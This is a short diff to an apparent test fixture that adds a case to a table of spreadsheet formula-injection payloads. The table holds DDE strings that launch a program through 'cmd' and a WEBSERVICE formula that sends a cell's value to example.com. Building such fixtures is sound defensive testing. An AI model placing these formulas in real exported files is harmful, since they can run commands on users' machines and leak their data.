@@ -118,6 +118,7 @@ for _name, _formula in {
     "program": b"cmd|'/c calc'!A0",
     "program-in-quotes": b"'cmd'|'/c calc'!A0",
     "program-after-a-tab": b"'a&quot;b'!A1&amp;cmd|'/c calc'!A0&amp;&quot;",
+    "program-behind-a-mark-alone": b"&quot;cmd|'/c calc'!A0",
     "program-after-a-column": b"Table1['#a]&amp;cmd|'/c calc'!A0",
     "program-escaped": b"Excel&#124;book!R1C1",
     "web": b'_xlfn.WEBSERVICE("https://example.com/"&amp;A1)',
